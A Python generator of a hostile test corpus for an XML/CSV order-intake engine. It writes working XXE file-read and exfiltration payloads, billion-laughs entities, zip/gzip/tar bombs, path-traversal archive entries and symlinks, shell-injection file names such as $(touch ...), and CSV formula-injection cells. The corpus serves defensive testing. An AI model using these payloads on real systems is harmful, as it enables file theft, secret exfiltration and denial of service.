#!/usr/bin/env python3
"""The hostile corpus for tests/hostile/run.sh, generated at test time (the
large files never go into the repository).

  make-corpus.py list
      one line per case: NAME <TAB> EXPECT <TAB> REASON-REGEX <TAB> CONFIG <TAB> WHAT
      EXPECT  reject: nothing of the case may become an order
              any:    rejected or processed, both fine (the other checks still apply)
      REASON-REGEX  when not "-": some failure reason of the case must match it
      CONFIG  extra INI lines for the run ("\\n"-separated), or "-"
  make-corpus.py make NAME IN-DIR --root ROOT --token TOKEN --secret FILE
                 --outside FILE --cache DIR
      writes the case's files (NAME "all": every case's) into IN-DIR (a
      spool's in/). TOKEN is a unique
      word used in every hostile name, so a file created anywhere from an
      entry or field name can be found; FILE (--secret) is a file outside the
      spool whose content must never appear anywhere; --outside is a valid
      order outside the spool (a symlink to it must not be followed); --cache
      keeps the big generated files between cases.
"""
import argparse
import shutil
import gzip
import io
import os
import struct
import sys
import tarfile
import zipfile
import zlib

MIB = 1 << 20

# name, expect, reason regex, extra config, what it is
CASES = [
    ("xxe-file-passwd", "reject", "entit", "-",
     "external general entity to file:///etc/passwd and /etc/passwd, in content and in an attribute"),
    ("xxe-file-hostname", "reject", "entit", "-",
     "external general entity to /etc/hostname"),
    ("xxe-file-canary", "reject", "entit", "-",
     "external entity to a secret file outside the spool, plain, UTF-16 and after a 1 MB prolog (past the text pre-scan)"),
    ("xxe-http", "reject", "entit", "-",
     "external entities to http://127.0.0.1, the cloud metadata address, https and ftp"),
    ("xxe-trusted-dir", "reject", "entit", "-",
     "external entity into the engine's own trusted maps/ folder (UTF-16, past the pre-scan)"),
    ("pe-internal", "reject", "-", "-",
     "internal parameter entity that declares a general entity; a conditional section in the internal subset"),
    ("pe-external", "reject", "entit", "-",
     "external parameter entities: file, http (out-of-band DTD) and the error-based file read, plain and UTF-16"),
    ("dtd-external-local", "any", "-", "-",
     "<!DOCTYPE cXML SYSTEM> naming /etc/passwd, the secret file, ../../etc/passwd, a PUBLIC id and http"),
    ("billion-laughs", "reject", "-", "-",
     "billion laughs: plain, UTF-16, UTF-7 and after a 1 MB prolog"),
    ("quadratic-blowup", "reject", "-", "-",
     "one 50 kB entity used 50,000 times (2.5 GB expanded): content, attribute, after a 1 MB prolog"),
    ("deep-nesting", "any", "-", "-",
     "10,000 nested elements inside an order's Comments, and as the whole document"),
    ("huge-text", "any", "order number is 10000000 characters long", "-",
     "a 10,000,000-character text node (Comments, Description) and attribute (orderID)"),
    ("xinclude", "any", "-", "-",
     "xi:include of /etc/passwd (text and xml), the secret file and http"),
    ("gzip-bomb", "reject", "unpack|max_|ratio|gzip", "-",
     "1 GiB of zeros gzipped (1 MB), gzip inside gzip, 100,000 concatenated empty gzip members"),
    ("zip-bomb", "reject", "max_|ratio|memory", "-",
     "zip of 1 GiB zeros, nested zips (10 x 10 x 100 MiB), an entry declaring 100 bytes that inflates to 1 GiB"),
    ("zip-overlap", "reject", "max_|ratio|corrupt|unpack", "-",
     "1,000 central-directory entries all pointing at the same 256 MiB deflate stream"),
    ("gz-members-bomb", "reject", r"\[unpack\]", "-",
     "a 1.1 MB zip of 999 stored .gz members of 1 MiB each (1 GiB unpacked, ratio 900:1)"),
    ("gz-members-total", "reject", r"max_total_mb", "[unpack]\\nmax_total_mb = 2\\nmax_member_mb = 1",
     "5 gzipped orders of 0.9 MB each in a 14 kB zip, with max_total_mb = 2 (4.5 MB unpacked)"),
    ("tar-million", "reject", "max_|members|entries", "-",
     "a tar.gz of 1,000,000 empty entries (9 MB), and the same tar plain (512 MB)"),
    ("tar-many-members", "reject", "max_members|members|entries", "-",
     "a plain tar of 20,000 empty entries (10 MB, under max_document_mb): the member-count limit"),
    ("zip-many-entries", "reject", "max_members|members|entries", "-",
     "a zip64 of 100,000 empty entries (10 MB)"),
    ("archive-names", "any", "-", "-",
     "zip, tar and tar.gz entries named ../../x, /tmp/x, ..\\..\\x, a 4000-byte name; symlinks, hard links, devices, FIFOs"),
    ("symlink-in-in", "reject", "symbolic link|not a regular file", "-",
     "symlinks in in/ to /etc/passwd, the secret file, a valid order outside the spool and /etc; hard links to the secret and the order; a FIFO; a folder"),
    ("name-steering", "any", "-", "-",
     "orderID=../../etc/x, payloadIDs with slashes, partner identities ../x and .., hostile in/ file names"),
    ("csv-formula", "any", "-", "-",
     "a CSV order (maps/csv/ordergate-po.ini) whose cells start with = + - @ TAB CR: outputs must neutralise them"),
]


class Ctx:
    def __init__(self, a):
        self.root, self.token, self.secret = a.root, a.token, a.secret
        self.outside, self.cache, self.dir = a.outside, a.cache, a.indir
        with open(os.path.join(self.root, "tests/data/golden/plain-no-doctype/input.xml")) as f:
            self.good = f.read()
        self.case = a.case
        self.n = 0

    def order(self, tag, orderid=None, comments=None, description=None, from_id=None,
              payload=None):
        """A valid order with its own payloadID (and order number)."""
        self.n += 1
        pid = payload if payload is not None else "%s-%s-%s-%d@hostile.example" % (
            tag, self.case, self.token, self.n)
        oid = orderid if orderid is not None else "%s-%d" % (tag.upper(), self.n)
        s = self.good.replace("20200925.153043.77@buyer.example", pid)
        s = s.replace('orderID="SB-1001"', 'orderID="%s"' % oid)
        if comments is not None:
            s = s.replace('<Comments xml:lang="en">Deliver',
                          '<Comments xml:lang="en">%s Deliver' % comments)
        if description is not None:
            s = s.replace("<![CDATA[Ballpoint pens <blue>, box of 10]]>", description)
        if from_id is not None:
            s = s.replace("<From><Credential domain=\"NetworkId\"><Identity>AN01000000001",
                          "<From><Credential domain=\"NetworkId\"><Identity>%s" % from_id)
            s = s.replace("<Credential domain=\"NetworkId\"><Identity>AN01000000001</Identity><SharedSecret>",
                          "<Credential domain=\"NetworkId\"><Identity>%s</Identity><SharedSecret>" % from_id)
        return s

    def write(self, name, data):
        if isinstance(data, str):
            data = data.encode()
        with open(os.path.join(self.dir, name), "wb") as f:
            f.write(data)

    def cached(self, name, make):
        """A big file generated once per test run into the cache folder."""
        path = os.path.join(self.cache, name)
        if not os.path.exists(path):
            # cases run in parallel (run.sh): each writes its own part file,
            # the rename makes one complete copy visible
            tmp = "%s.part.%d" % (path, os.getpid())
            make(tmp)
            os.rename(tmp, path)
        return path

    def place(self, name, cached_path):
        """Puts a copy of a cached big file into in/. Not a hard link: the
        engine refuses a file with two names (st_nlink > 1) at read, before
        any of the limits this corpus is about."""
        shutil.copyfile(cached_path, os.path.join(self.dir, name))


def with_doctype(body, subset=None, system=None, public=None, encoding=None, prolog=""):
    decl = '<?xml version="1.0"%s?>\n' % (' encoding="%s"' % encoding if encoding else "")
    dt = "<!DOCTYPE cXML"
    if public:
        dt += ' PUBLIC "%s" "%s"' % (public, system)
    elif system:
        dt += ' SYSTEM "%s"' % system
    if subset:
        dt += " [\n%s\n]" % subset
    dt += ">\n"
    return decl + prolog + dt + body


def utf16(text):
    return text.replace('<?xml version="1.0"?>', '<?xml version="1.0" encoding="UTF-16"?>').encode("utf-16")


BIG_PROLOG = "<!--" + "p" * (1100 * 1024) + "-->\n"   # past the 1 MB text pre-scan


# --- compression helpers ---------------------------------------------------

def zero_deflate(nbytes, byte=b"\0"):
    """Raw deflate of nbytes of one byte value, built from one compressed MiB
    repeated (full flush makes every MiB compress to the same bytes)."""
    assert nbytes % MIB == 0
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    blk = c.compress(byte * MIB) + c.flush(zlib.Z_FULL_FLUSH)
    c2 = zlib.compressobj(9, zlib.DEFLATED, -15)
    blk2 = c2.compress(byte * MIB) + c2.flush(zlib.Z_FULL_FLUSH)
    assert blk == blk2
    tail = c.flush(zlib.Z_FINISH)
    crc = 0
    chunk = byte * MIB
    for _ in range(nbytes // MIB):
        crc = zlib.crc32(chunk, crc)
    return blk, nbytes // MIB, tail, crc & 0xFFFFFFFF


def write_gzip_of(path_or_file, nbytes, byte=b"\0"):
    blk, n, tail, crc = zero_deflate(nbytes, byte)
    f = open(path_or_file, "wb") if isinstance(path_or_file, str) else path_or_file
    f.write(b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff")
    for _ in range(n):
        f.write(blk)
    f.write(tail)
    f.write(struct.pack("<II", crc, nbytes & 0xFFFFFFFF))
    if isinstance(path_or_file, str):
        f.close()


def zip_local(name, comp, method, crc, csize, usize):
    return struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, csize, usize,
                       len(name), 0) + name


def zip_central(name, method, crc, csize, usize, offset, extattr=0o100644 << 16):
    return struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 0x031E, 20, 0, method, 0, 0x21, crc,
                       csize, usize, len(name), 0, 0, 0, 0, extattr, offset) + name


def zip_end(n, cdsize, cdoff):
    return struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, n, n, cdsize, cdoff, 0)


def raw_zip(entries):
    """entries: (name bytes, compressed bytes, method, crc, usize, declared usize or None)."""
    out = io.BytesIO()
    cd = []
    for name, comp, method, crc, usize, declared in entries:
        off = out.tell()
        u = usize if declared is None else declared
        out.write(zip_local(name, comp, method, crc, len(comp), u))
        out.write(comp)
        cd.append(zip_central(name, method, crc, len(comp), u, off))
    cdoff = out.tell()
    for c in cd:
        out.write(c)
    out.write(zip_end(len(cd), out.tell() - cdoff, cdoff))
    return out.getvalue()


def tar_blocks(n, fmt="e%07d.xml"):
    """n empty regular-file entries: one header made by tarfile, then the
    name and checksum patched per entry (tarfile.addfile is too slow for a
    million)."""
    ti = tarfile.TarInfo(fmt % 0)
    ti.mtime = 0
    ti.mode = 0o644
    h = bytearray(ti.tobuf(tarfile.USTAR_FORMAT))
    width = len(fmt % 0)
    h[148:156] = b" " * 8
    base = sum(h) - sum(h[0:width])
    pre, post = bytes(h[width:148]), bytes(h[156:512])
    for i in range(n):
        name = (fmt % i).encode()
        yield name + pre + b"%06o\0 " % (base + sum(name)) + post


def write_tar(path, n, compress):
    with open(path, "wb") as out:
        comp = zlib.compressobj(1, zlib.DEFLATED, 31) if compress else None
        buf = []

        def flush(extra=b""):
            data = b"".join(buf) + extra
            buf.clear()
            out.write(comp.compress(data) if comp else data)

        for blk in tar_blocks(n):
            buf.append(blk)
            if len(buf) == 8192:
                flush()
        flush(b"\0" * 1024)
        if comp:
            out.write(comp.flush())


# --- the cases ---------------------------------------------------------------

def case_xxe_file_passwd(c):
    for i, target in enumerate(["file:///etc/passwd", "/etc/passwd"]):
        c.write("xxe-passwd-%d.xml" % i, with_doctype(
            c.order("xxe", comments="&x;"), '<!ENTITY x SYSTEM "%s">' % target))
    c.write("xxe-passwd-attr.xml", with_doctype(
        c.order("xxe", orderid="&x;"), '<!ENTITY x SYSTEM "file:///etc/passwd">'))


def case_xxe_file_hostname(c):
    c.write("xxe-hostname.xml", with_doctype(
        c.order("xxe", comments="&x;"), '<!ENTITY x SYSTEM "file:///etc/hostname">'))


def case_xxe_file_canary(c):
    sub = '<!ENTITY x SYSTEM "file://%s">' % c.secret
    c.write("xxe-canary.xml", with_doctype(c.order("xxe", comments="&x;"), sub))
    c.write("xxe-canary-utf16.xml", utf16(with_doctype(c.order("xxe", comments="&x;"), sub)))
    c.write("xxe-canary-prolog.xml", with_doctype(c.order("xxe", comments="&x;"), sub, prolog=BIG_PROLOG))
    c.write("xxe-canary-desc.xml", with_doctype(
        c.order("xxe", description="&x;"), '<!ENTITY x SYSTEM "%s">' % c.secret))


def case_xxe_http(c):
    for i, url in enumerate(["http://127.0.0.1:9/x.xml", "http://169.254.169.254/latest/meta-data/",
                             "https://ordergate-hostile.invalid/x", "ftp://127.0.0.1/x"]):
        c.write("xxe-http-%d.xml" % i, with_doctype(
            c.order("xxe", comments="&x;"), '<!ENTITY x SYSTEM "%s">' % url))
    c.write("xxe-http-utf16.xml", utf16(with_doctype(
        c.order("xxe", comments="&x;"), '<!ENTITY x SYSTEM "http://127.0.0.1:9/y">')))


def case_xxe_trusted_dir(c):
    target = os.path.join(c.root, "maps/csv/example-erp.ini")
    c.write("xxe-trusted.xml", utf16(with_doctype(
        c.order("xxe", comments="&x;"), '<!ENTITY x SYSTEM "file://%s">' % target)))
    c.write("xxe-trusted-plain.xml", with_doctype(
        c.order("xxe", description="&x;"), '<!ENTITY x SYSTEM "%s">' % target))


def case_pe_internal(c):
    c.write("pe-internal.xml", with_doctype(
        c.order("pe", comments="&x;"), '<!ENTITY % p "<!ENTITY x \'pwned\'>"> %p;'))
    c.write("pe-internal-utf16.xml", utf16(with_doctype(
        c.order("pe", comments="&x;"), '<!ENTITY % p "<!ENTITY x \'pwned\'>"> %p;')))
    c.write("pe-conditional.xml", with_doctype(
        c.order("pe", comments="&x;"),
        '<!ENTITY % on "INCLUDE"> <![%on;[ <!ENTITY x SYSTEM "file:///etc/passwd"> ]]>'))


def case_pe_external(c):
    subsets = [
        '<!ENTITY % p SYSTEM "file:///etc/passwd"> %p;',
        '<!ENTITY %% p SYSTEM "file://%s"> %%p;' % c.secret,
        '<!ENTITY % dtd SYSTEM "http://127.0.0.1:9/evil.dtd"> %dtd;',
        # error-based read: the file's content would land in an error message
        '<!ENTITY % file SYSTEM "file:///etc/passwd">'
        '<!ENTITY % eval "<!ENTITY &#x25; error SYSTEM \'file:///nonexistent/%file;\'>">'
        '%eval; %error;',
        '<!ENTITY %% file SYSTEM "file://%s">'
        '<!ENTITY %% eval "<!ENTITY &#x25; error SYSTEM \'http://127.0.0.1:9/?%%file;\'>">'
        '%%eval; %%error;' % c.secret,
    ]
    for i, sub in enumerate(subsets):
        c.write("pe-external-%d.xml" % i, with_doctype(c.order("pe"), sub))
        c.write("pe-external-%d-utf16.xml" % i, utf16(with_doctype(c.order("pe"), sub)))


def case_dtd_external_local(c):
    for i, (sysid, pub) in enumerate([("/etc/passwd", None), ("file://" + c.secret, None),
                                      ("../../../../../../../../etc/passwd", None),
                                      (c.secret, "-//ordergate//hostile//EN"),
                                      ("http://127.0.0.1:9/cXML.dtd", None),
                                      (os.path.join(c.root, "xslt/../../../../etc/passwd"), None)]):
        c.write("dtd-external-%d.xml" % i, with_doctype(c.order("dtd"), system=sysid, public=pub))


def laughs():
    return '<!ENTITY lol "lol">' + "".join(
        '<!ENTITY lol%d "%s">' % (i, ("&lol%d;" % (i - 1) if i > 1 else "&lol;") * 10)
        for i in range(1, 11))


def case_billion_laughs(c):
    c.write("laughs.xml", with_doctype(c.order("bl", comments="&lol10;"), laughs()))
    c.write("laughs-utf16.xml", utf16(with_doctype(c.order("bl", comments="&lol10;"), laughs())))
    c.write("laughs-prolog.xml", with_doctype(c.order("bl", comments="&lol10;"), laughs(), prolog=BIG_PROLOG))
    doc = with_doctype(c.order("bl", comments="&lol10;"), laughs())
    decl = '<?xml version="1.0"?>\n'
    c.write("laughs-utf7.xml", b'<?xml version="1.0" encoding="UTF-7"?>\n' + doc[len(decl):].encode("utf-7"))


def case_quadratic_blowup(c):
    ent = '<!ENTITY a "%s">' % ("A" * 50000)
    refs = "&a;" * 50000
    c.write("quadratic.xml", with_doctype(c.order("qb", comments=refs), ent))
    c.write("quadratic-attr.xml", with_doctype(c.order("qb", orderid=refs), ent))
    c.write("quadratic-prolog.xml", with_doctype(c.order("qb", comments=refs), ent, prolog=BIG_PROLOG))


def case_deep_nesting(c):
    deep = "<x>" * 10000 + "deep" + "</x>" * 10000
    c.write("deep-comments.xml", c.order("deep", comments=deep))
    c.write("deep-root.xml", '<cXML payloadID="deep-%s@x">' % c.token + "<cXML>" * 10000
            + "</cXML>" * 10000 + "</cXML>")


def case_huge_text(c):
    big = "A" * 10000000
    c.write("huge-comments.xml", c.order("huge", comments=big))
    c.write("huge-description.xml", c.order("huge", description=big))
    c.write("huge-orderid.xml", c.order("huge", orderid=big))


def case_xinclude(c):
    xi = 'xmlns:xi="http://www.w3.org/2001/XInclude"'
    for i, (href, parse) in enumerate([("/etc/passwd", "text"), ("file:///etc/passwd", "xml"),
                                       (c.secret, "text"), ("http://127.0.0.1:9/x", "text")]):
        inc = '<xi:include %s href="%s" parse="%s"/>' % (xi, href, parse)
        c.write("xinclude-%d.xml" % i, c.order("xi", comments=inc).replace(
            "<cXML ", "<cXML %s " % xi, 1))
    c.write("xinclude-desc.xml", c.order("xi", description='<xi:include %s href="%s" parse="text"/>'
                                         % (xi, c.secret)).replace("<cXML ", "<cXML %s " % xi, 1))


def case_gzip_bomb(c):
    p = c.cached("zeros-1g.gz", lambda t: write_gzip_of(t, 1024 * MIB))
    c.place("bomb-1g.xml.gz", p)
    with open(p, "rb") as f:
        inner = f.read()
    c.write("bomb-double.xml.gz", gzip.compress(inner, 9, mtime=0))
    c.write("bomb-members.xml.gz", gzip.compress(b"", 9, mtime=0) * 100000)


def case_zip_bomb(c):
    blk, n, tail, crc = zero_deflate(1024 * MIB)
    flat = blk * n + tail
    c.write("bomb-flat.zip", raw_zip([(b"zeros.xml", flat, 8, crc, 1024 * MIB, None)]))
    # the same stream declaring 100 bytes: limits must count what is inflated
    c.write("bomb-liar.zip", raw_zip([(b"small.xml", flat, 8, crc, 1024 * MIB, 100)]))
    blk, n, tail, crc = zero_deflate(100 * MIB)
    hundred = blk * n + tail
    inner = raw_zip([(b"z%02d.xml" % i, hundred, 8, crc, 100 * MIB, None) for i in range(10)])
    icrc = zlib.crc32(inner) & 0xFFFFFFFF
    co = zlib.compressobj(9, zlib.DEFLATED, -15)
    icomp = co.compress(inner) + co.flush()
    c.write("bomb-nested.zip", raw_zip([(b"inner%02d.zip" % i, icomp, 8, icrc, len(inner), None)
                                        for i in range(10)]))


def case_zip_overlap(c):
    size = 256 * MIB
    blk, n, tail, crc = zero_deflate(size)
    comp = blk * n + tail
    out = io.BytesIO()
    out.write(zip_local(b"a.xml", comp, 8, crc, len(comp), size))
    out.write(comp)
    cdoff = out.tell()
    for i in range(1000):
        out.write(zip_central(b"e%04d.xml" % i, 8, crc, len(comp), size, 0))
    out.write(zip_end(1000, out.tell() - cdoff, cdoff))
    c.write("overlap.zip", out.getvalue())


def case_gz_members_bomb(c):
    member = gzip.compress(b" " * MIB, 9, mtime=0)
    with zipfile.ZipFile(os.path.join(c.dir, "gz-members.zip"), "w", zipfile.ZIP_STORED) as z:
        for i in range(999):
            z.writestr("m%03d.xml.gz" % i, member)


def case_gz_members_total(c):
    # five valid orders of 0.9 MB each (a long comment), gzipped to a few kB
    with zipfile.ZipFile(os.path.join(c.dir, "gz-total.zip"), "w", zipfile.ZIP_STORED) as z:
        for i in range(5):
            z.writestr("m%d.xml.gz" % i, gzip.compress(
                c.order("gztotal", comments="x" * 900000).encode(), 9, mtime=0))


def case_tar_million(c):
    c.place("million.tar.gz", c.cached("million.tar.gz", lambda t: write_tar(t, 1000000, True)))
    c.place("million.tar", c.cached("million.tar", lambda t: write_tar(t, 1000000, False)))


def case_tar_many_members(c):
    c.place("many.tar", c.cached("20k.tar", lambda t: write_tar(t, 20000, False)))


def case_zip_many_entries(c):
    def make(t):
        with zipfile.ZipFile(t, "w", zipfile.ZIP_STORED, allowZip64=True) as z:
            for i in range(100000):
                z.writestr("e%06d.xml" % i, b"")
    c.place("many.zip", c.cached("100k.zip", make))


def case_archive_names(c):
    t = c.token
    good = lambda tag: c.order(tag).encode()
    evil_names = ["../../%s-escape.xml" % t, "/tmp/%s-abs.xml" % t, "..\\..\\%s-win.xml" % t,
                  "./../%s-dot.xml" % t, "%s-dir/../../../%s-up.xml" % (t, t),
                  ("%s-long-" % t) + "n" * 4000 + ".xml", "%s-nl\n%s-forged-member.xml" % (t, t)]
    with zipfile.ZipFile(os.path.join(c.dir, "names.zip"), "w", zipfile.ZIP_DEFLATED) as z:
        for n in evil_names:
            z.writestr(n, good("zipname"))
        for target in ["/etc/passwd", c.secret, "../../../../etc/passwd"]:
            info = zipfile.ZipInfo("%s-link-%d" % (t, len(target)))
            info.external_attr = 0o120777 << 16
            z.writestr(info, target)
        info = zipfile.ZipInfo("%s-dir/" % t)
        info.external_attr = (0o40755 << 16) | 0x10
        z.writestr(info, b"")
        z.writestr("%s-link-11/through.xml" % t, good("zipname"))
    for mode, name in (("w", "names.tar"), ("w:gz", "names.tgz")):
        with tarfile.open(os.path.join(c.dir, name), mode, format=tarfile.PAX_FORMAT) as tf:
            def reg(n, data):
                ti = tarfile.TarInfo(n)
                ti.size = len(data)
                tf.addfile(ti, io.BytesIO(data))
            for n in evil_names:
                reg(n, good("tarname"))
            for kind, n, target in ((tarfile.SYMTYPE, "%s-sym" % t, "/etc/passwd"),
                                    (tarfile.SYMTYPE, "%s-sym2" % t, c.secret),
                                    (tarfile.LNKTYPE, "%s-hard" % t, "/etc/passwd"),
                                    (tarfile.LNKTYPE, "%s-hard2" % t, c.secret),
                                    (tarfile.LNKTYPE, "../%s-hard3" % t, "../../etc/passwd"),
                                    (tarfile.CHRTYPE, "%s-chr" % t, ""),
                                    (tarfile.BLKTYPE, "%s-blk" % t, ""),
                                    (tarfile.FIFOTYPE, "%s-fifo" % t, ""),
                                    (tarfile.DIRTYPE, "../%s-dir" % t, "")):
                ti = tarfile.TarInfo(n)
                ti.type = kind
                ti.linkname = target
                if kind in (tarfile.CHRTYPE, tarfile.BLKTYPE):
                    ti.devmajor, ti.devminor = 8, 0
                tf.addfile(ti)
            reg("%s-sym/through.xml" % t, good("tarname"))


def case_symlink_in_in(c):
    t = c.token
    os.symlink("/etc/passwd", os.path.join(c.dir, "%s-passwd.xml" % t))
    os.symlink(c.secret, os.path.join(c.dir, "%s-secret.xml" % t))
    os.symlink(c.outside, os.path.join(c.dir, "%s-outside-order.xml" % t))
    os.symlink("/etc", os.path.join(c.dir, "%s-etc" % t))
    os.symlink("../../../../../../../etc/hostname", os.path.join(c.dir, "%s-relative.xml" % t))
    # hard links: the same files under a second name in in/ (same file system)
    os.link(c.secret, os.path.join(c.dir, "%s-hard-secret.xml" % t))
    os.link(c.outside, os.path.join(c.dir, "%s-hard-outside-order.xml" % t))
    os.mkfifo(os.path.join(c.dir, "%s-fifo.xml" % t))
    os.mkdir(os.path.join(c.dir, "%s-folder" % t))
    with open(os.path.join(c.dir, "%s-folder" % t, "inside.xml"), "w") as f:
        f.write(c.order("folder"))


def case_name_steering(c):
    t = c.token
    c.write("steer-orderid.xml", c.order("steer", orderid="../../etc/%s-x" % t))
    c.write("steer-orderid-abs.xml", c.order("steer", orderid="/tmp/%s-abs" % t))
    c.write("steer-payload.xml", c.order("steer", payload="../../../tmp/%s/x/../y@host/../../z" % t))
    c.write("steer-partner.xml", c.order("steer", from_id="../%s-x" % t))
    c.write("steer-partner-dotdot.xml", c.order("steer", from_id=".."))
    c.write("steer-partner-dot.xml", c.order("steer", from_id="."))
    c.write("steer-partner-slash.xml", c.order("steer", from_id="/etc/%s" % t))
    c.write("steer-partner-long.xml", c.order("steer", from_id="../" * 200 + t))
    c.write("steer-orderid-dot.xml", c.order("steer", orderid=".."))
    # values that would start a log line of their own (a forged line starts with the token)
    c.write("steer-orderid-newline.xml", c.order("steer", orderid="X&#10;%s-forged-orderid" % t))
    c.write("steer-identity-newline.xml", c.order("steer", from_id="AN01\n%s-forged-identity" % t))
    c.write("%s\n%s-forged-why\nwhat to do: forged.xml" % (t, t), "<cXML><broken></cXML>")
    for name in ["-%s --help.xml" % t, "%s$(touch %s-x).xml" % (t, t), "%s\n%s-forged-name.xml" % (t, t),
                 "%s `id` ;x.xml" % t, "..%s.xml" % t, "%s" % t + "L" * 200 + ".xml",
                 "%s\x1b[31mred.xml" % t]:
        c.write(name, c.order("steerfile"))


def case_csv_formula(c):
    header = ("orderID,orderDate,currency,lineNumber,supplierPartID,buyerPartID,description,"
              "quantity,unitOfMeasure,unitPrice,amount,requestedDeliveryDate,shipToName,"
              "shipToCity,shipToCountry\r\n")
    evil = ["=HYPERLINK(\"\"http://x.example/?leak\"\",\"\"click\"\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
            "=cmd|' /C calc'!A0", " =1+1"]
    rows = []
    name, city = '"%s"' % evil[0], '"%s"' % evil[3]   # order header fields: the same on every row
    for i, e in enumerate(evil, 1):
        q = '"%s"' % e
        rows.append(",".join([
            "F-%s" % c.token[:8], "2025-02-03", "EUR", str(i), q, q, q, "1", "EA", "1.00", "",
            "2025-02-10", name, city, "DE"]) + "\r\n")
    c.write("formula.csv", header + "".join(rows))
    # the order number itself (it also names the output file)
    c.write("formula-orderid.csv", header + ",".join([
        '"=1+2"', "2025-02-03", "EUR", "1", '"@x"', '"-y"', '"+z"', "1", "EA", "1.00", "",
        "", '"=A1"', '"-B"', "DE"]) + "\r\n")


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("cmd", choices=["list", "make"])
    ap.add_argument("case", nargs="?")
    ap.add_argument("indir", nargs="?")
    ap.add_argument("--root")
    ap.add_argument("--token")
    ap.add_argument("--secret")
    ap.add_argument("--outside")
    ap.add_argument("--cache")
    a = ap.parse_args()
    if a.cmd == "list":
        for name, expect, reason, config, what in CASES:
            print("\t".join([name, expect, reason, config, what]))
        return 0
    names = [x[0] for x in CASES]
    if a.case != "all" and a.case not in names:
        print("unknown case %s" % a.case, file=sys.stderr)
        return 2
    os.makedirs(a.cache, exist_ok=True)
    for name in names if a.case == "all" else [a.case]:
        fn = globals()["case_" + name.replace("-", "_")]
        fn(Ctx(a))
    return 0


if __name__ == "__main__":
    sys.exit(main())
